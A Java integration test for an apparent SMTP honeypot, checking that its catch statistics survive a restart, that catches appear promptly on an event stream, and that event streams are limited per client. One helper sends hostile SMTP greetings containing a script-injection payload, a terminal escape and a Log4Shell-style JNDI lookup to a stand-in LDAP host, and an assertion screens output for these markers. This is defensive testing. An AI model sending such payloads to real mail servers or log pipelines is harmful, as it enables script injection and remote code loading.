package org.decoymx.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.decoymx.lab.LabClock;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Numbers over time and live events, of real sessions, with a clock that the test sets ahead. */
class HistoryIT {
    private static final Duration LIMIT = Duration.ofMinutes(2);
    private static final Duration PROMISE = Duration.ofSeconds(2);
    private static final Duration HOUR = Duration.ofHours(1);
    private static final String STREAM = "Accept: text/event-stream\n";
    private static final int MAX_STREAMS_PER_CLIENT = 10;

    private final Path dir = TestResources.createDirectory("history");
    private final LabClock clock = new LabClock(dir);
    private DecoyProcess decoy;

    @BeforeEach
    void start() {
        decoy = DecoyProcess.start(clock.environment(), DecoyWithLedger.settings(dir));
    }

    @AfterEach
    void stop() {
        String log = decoy.log();
        decoy.close();
        assertThat(log).doesNotContain("ERROR", "Exception");
        TestResources.delete(dir);
    }

    /** A column of the numbers, by the hour for a day. */
    static List<Long> column(DecoyProcess decoy, String name) {
        try {
            JsonNode history =
                    new ObjectMapper().readTree(decoy.get("/stats/history").body());
            int index = 0;
            while (!history.path("columns").path(index).asText().equals(name)) {
                index++;
            }
            List<Long> column = new ArrayList<>();
            history.path("data").path(index).forEach(number -> column.add(number.asLong()));
            return column;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The sum of a column. */
    static long total(DecoyProcess decoy, String name) {
        return column(decoy, name).stream().mapToLong(Long::longValue).sum();
    }

    private void assertListed(String... clients) throws IOException {
        for (String client : clients) {
            assertThat(ProxiedClient.mail(decoy.smtpPort(), client, DecoyWithLedger.RECIPIENT))
                    .startsWith("451 ");
            decoy.awaitListed(client);
        }
    }

    @Test
    void numbers_surviveKill9_andAHourLaterANewStepBegins() throws IOException {
        assertListed("23.0.0.1", "23.0.1.1", "23.0.2.1");
        assertThat(total(decoy, "catches")).isEqualTo(3);
        long sessions = total(decoy, "sessions");
        assertThat(sessions).isGreaterThanOrEqualTo(3);
        decoy.killProcess();
        decoy.restart();
        assertThat(total(decoy, "catches")).isEqualTo(3);
        assertThat(total(decoy, "sessions")).isGreaterThanOrEqualTo(sessions);

        long lastHour = column(decoy, "time").get(24);
        // a jump of more than an hour would be followed only after a minute
        clock.advance(HOUR.dividedBy(2));
        assertThat(total(decoy, "catches")).isEqualTo(3);
        clock.advance(HOUR.dividedBy(2));
        assertListed("23.0.3.1");
        List<Long> times = column(decoy, "time");
        List<Long> catches = column(decoy, "catches");
        long later = 0;
        for (int step = 0; step < times.size(); step++) {
            later += times.get(step) > lastHour ? catches.get(step) : 0;
        }
        assertThat(later).as("catches after the hour of the others").isEqualTo(1);
        assertThat(total(decoy, "catches")).isEqualTo(4);
        assertThat(SqliteShell.run(dir.resolve("ledger.db"), "SELECT sum(catches), count(*) FROM hour"))
                .startsWith("4|");
    }

    @Test
    void catch_isInTheNumbersAndOnTheStream_withinTwoSeconds_andItsNamesAreInert() throws Exception {
        try (EventSource stream = new EventSource(decoy.url("/events"), STREAM)) {
            assertThat(stream.responseHead()).startsWith("HTTP/1.0 200 ").contains("text/event-stream");
            assertThat(stream.readEvent()).containsExactly("retry: 2000");
            sendHostileMail("23.0.0.1");
            Stopwatch caught = Stopwatch.start();
            String event = awaitEvent(stream, "caught");
            caught.assertWithin(PROMISE);
            caught.within(PROMISE, () -> assertThat(total(decoy, "catches")).isEqualTo(1));
            assertThat(event)
                    .contains("\"subject\":\"23.0.0.1\"", "\"sender\":true")
                    .containsPattern("\"text\":\"caught, [0-9.]+ points, suspect until \\S+: first catch\"");
            assertThat(awaitEvent(stream, "listed, suspect until")).contains("\"subject\":\"23.0.0.1\"");

            String id = event.lines().findFirst().orElseThrow().replace("id: ", "");
            assertListed("23.0.1.1");
            try (EventSource again = new EventSource(decoy.url("/events"), STREAM + "Last-Event-ID: " + id + "\n")) {
                again.readEvent();
                assertThat(String.join("\n", again.readEvent())).contains("\"id\":" + (Long.parseLong(id) + 1) + ",");
                awaitEvent(again, "23.0.1.1");
            }
            HttpResponse<String> json = decoy.get("/events");
            assertThat(json.headers().firstValue("Content-Type"))
                    .hasValueSatisfying(type -> assertThat(type).startsWith("application/json"));
            assertThat(json.headers().allValues("Vary")).containsOnlyOnce("Accept");
            assertThat(json.body())
                    .startsWith("{\"events\":[{\"id\":")
                    .contains("23.0.1.1", "23.0.0.1")
                    .doesNotContain("script", "jndi", "\u001b", "\u202e");
            assertThat(decoy.get("/events?since=x").statusCode()).isEqualTo(400);
            assertThat(decoy.get("/stats/history?range=2d").statusCode()).isEqualTo(400);
            assertThat(decoy.get("/stats/history?range=2d").body()).contains("range must be one of 24h, 7d, 30d, 1y");
        }
    }

    private void sendHostileMail(String client) throws IOException {
        try (SmtpClient socket = ProxiedClient.connect(decoy.smtpPort(), client)) {
            socket.readReply();
            socket.sendCommand("EHLO <script>alert(1)</script>\u001b[31m");
            socket.sendCommand("HELO <script>${jndi:ldap://x/a}</script>");
            socket.sendCommand("MAIL FROM:<\"<script>\"@example.net>");
            socket.sendCommand("RCPT TO:<" + DecoyWithLedger.RECIPIENT + ">");
            assertThat(socket.sendCommand("DATA")).startsWith("451 ");
        }
    }

    private static String awaitEvent(EventSource stream, String text) throws IOException {
        String event = "";
        while (!event.contains(text)) {
            event = String.join("\n", stream.readEvent());
            assertThat(event).isNotEmpty();
        }
        return event;
    }

    @Test
    void streams_areLimitedForAClient_untilOneEnds() throws IOException {
        String url = decoy.url("/events");
        List<EventSource> streams = new ArrayList<>();
        try {
            for (int i = 0; i < MAX_STREAMS_PER_CLIENT; i++) {
                streams.add(new EventSource(url, STREAM));
                assertThat(streams.get(i).responseHead()).startsWith("HTTP/1.0 200 ");
            }
            try (EventSource rejected = new EventSource(url, STREAM)) {
                assertThat(rejected.responseHead()).startsWith("HTTP/1.0 503 ").containsIgnoringCase("retry-after: 60");
            }
            try (EventSource other = new EventSource(url, STREAM, InetAddress.getByName("127.0.0.9"))) {
                assertThat(other.responseHead()).startsWith("HTTP/1.0 200 ");
            }
            streams.remove(0).close();
            await("a free stream").atMost(LIMIT).until(() -> {
                try (EventSource next = new EventSource(url, STREAM)) {
                    return next.responseHead().startsWith("HTTP/1.0 200 ");
                }
            });
        } finally {
            for (EventSource stream : streams) {
                stream.close();
            }
        }
    }
}
